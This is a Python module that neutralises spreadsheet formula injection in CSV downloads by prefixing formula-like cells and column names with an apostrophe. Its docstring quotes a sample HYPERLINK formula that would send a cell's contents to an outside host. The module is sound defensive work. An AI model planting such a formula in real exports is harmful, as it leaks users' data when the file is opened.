"""CSV downloads a spreadsheet opens safely: a text cell (or column name) that starts with ``= + - @`` (or a
tab / carriage return, which some spreadsheets skip before reading a formula) is prefixed with ``'``, so
``=HYPERLINK("https://host/?"&A1)`` from a database row is shown as text, never evaluated.  Numbers stay
numbers (a negative value is a number column, not text)."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutral_cell(value: object) -> object:
    """``value`` unchanged unless it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """The one CSV writer of every download: ``frame`` without its index, formula cells neutralised."""
    from pandas.api.types import is_object_dtype, is_string_dtype

    shown = frame.rename(columns=lambda c: neutral_cell(str(c)))
    text_columns = [c for c in shown.columns if is_object_dtype(shown[c]) or is_string_dtype(shown[c])]
    if text_columns:
        shown = shown.copy()
        for column in text_columns:
            shown[column] = shown[column].map(neutral_cell)
    return shown.to_csv(index=False, lineterminator="\r\n").encode("utf-8")  # RFC 4180; a CR in a cell is quoted
